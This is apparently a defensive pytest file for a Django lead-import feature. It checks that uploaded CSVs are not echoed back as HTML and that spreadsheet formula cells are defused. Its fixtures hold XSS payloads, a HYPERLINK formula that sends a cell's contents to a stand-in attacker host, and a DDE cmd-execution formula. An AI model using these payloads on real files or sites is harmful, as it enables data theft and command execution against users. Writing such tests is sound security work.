"""Uploaded files are never served back: the CSV import keeps the upload in the database
and serves only a generated report, as an attachment; every CSV answer is text/csv with
nosniff, whatever the upload held. Oversize uploads get a clear refusal."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from leads.models import ImportJob, Lead

HOSTILE = (
    b"First Name,Last Name,Email,Company\n"
    b'<script>alert(1)</script>,"<img src=x onerror=alert(2)>",evil@example.com,'
    b'"<html><body onload=alert(3)>"\n'
    b'=HYPERLINK("http://evil.example/?x="&A1),+cmd,-1+2@example.com,@SUM(1)\n'
)
RAW_MARKERS = (b"<script>alert(1)</script>", b"<img src=x onerror", b"<body onload")


@pytest.fixture
def uploaded(world, db):
    client = world.client("rep")
    response = client.post(
        "/leads/import/",
        {
            "file": SimpleUploadedFile("page.html", HOSTILE, content_type="text/html"),
            "default_inquiry_type": "other",
            "default_campaign": world.campaign.pk,
        },
    )
    assert response.status_code == 302, response.content[:500]
    return client, ImportJob.objects.latest("pk")


def test_an_html_upload_is_never_served_back_as_html(uploaded):
    client, job = uploaded
    urls = [
        f"/leads/import/{job.pk}/",
        f"/leads/import/{job.pk}/mapping/",
        f"/leads/import/{job.pk}/progress/",
        f"/leads/import/{job.pk}/report.csv",
        "/leads/import/",
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        for marker in RAW_MARKERS:
            if response["Content-Type"].startswith("text/html"):
                assert marker not in response.content, (url, marker)
        assert response["X-Content-Type-Options"] == "nosniff", url


@pytest.mark.parametrize(
    "url",
    [
        lambda w, job: f"/leads/import/{job.pk}/report.csv",
        lambda w, job: "/leads/export.csv",
        lambda w, job: "/dashboard/funnel.csv",
        lambda w, job: "/dashboard/campaigns.csv",
    ],
    ids=["import report", "lead export", "dashboard funnel", "dashboard campaigns"],
)
def test_every_csv_answer_is_an_attachment_with_nosniff(world, uploaded, url):
    _client, job = uploaded
    response = world.client("manager").get(url(world, job))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_cells_that_a_spreadsheet_would_run_as_formulas_are_defused(world, uploaded):
    client, job = uploaded
    job.rows.create(line=2, outcome="invalid", email="=HYPERLINK(1)", reason="@SUM(1)")
    report = client.get(f"/leads/import/{job.pk}/report.csv").content.decode()
    assert "'=HYPERLINK(1)" in report
    assert "'@SUM(1)" in report
    assert ",=" not in report and ",@" not in report


def test_the_lead_export_defuses_formulas_from_public_forms(world, db):
    client = world.client("anon")
    client.post(
        f"/intake/{world.campaign.intake_key}/",
        {"first_name": "=cmd|' /C calc'!A0", "last_name": "+Evil", "email": "f@example.com"},
    )
    export = b"".join(world.client("manager").get("/leads/export.csv").streaming_content)
    assert "'=cmd|' /C calc'!A0,'+Evil" in export.decode()


def test_an_upload_over_the_cap_is_refused_before_it_is_read(world, db, settings):
    settings.MAX_REQUEST_BODY_BYTES = 64 * 1024
    response = world.client("rep").post(
        "/leads/import/",
        {"file": SimpleUploadedFile("big.csv", b"a,b\n" * 40_000, content_type="text/csv")},
    )
    assert response.status_code == 413
    assert "The upload is too large: at most 64.0\xa0KB per request" in response.content.decode()
    assert not ImportJob.objects.filter(filename="big.csv").exists()


def test_a_file_over_fifty_megabytes_is_refused_with_its_reason(world, db, monkeypatch):
    from leads.imports import reader as csv_import

    monkeypatch.setattr(csv_import, "MAX_BYTES", 1024)
    response = world.client("rep").post(
        "/leads/import/",
        {
            "file": SimpleUploadedFile("big.csv", b"a,b\n" * 1000, content_type="text/csv"),
            "default_inquiry_type": "other",
        },
    )
    assert response.status_code == 200
    assert "The file is larger than 50 MB; split it." in response.content.decode()


@pytest.mark.parametrize(
    "content, message",
    [
        (b"", "The submitted file is empty."),
        (b"\xff\xfe\x00\x00garbage\x00\x00", "not text LeadFlow can read"),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, "This looks like a binary file"),
    ],
    ids=["empty", "binary", "png"],
)
def test_malformed_uploads_are_refused_with_a_message(world, db, content, message):
    jobs, leads = ImportJob.objects.count(), Lead.objects.count()
    response = world.client("rep").post(
        "/leads/import/",
        {
            "file": SimpleUploadedFile("x.csv", content, content_type="text/csv"),
            "default_inquiry_type": "other",
        },
    )
    # Refused on the form itself: no redirect to an import, nothing stored.
    assert response.status_code == 200
    assert b'class="invalid-feedback"' in response.content
    assert message in response.content.decode()
    assert (ImportJob.objects.count(), Lead.objects.count()) == (jobs, leads)
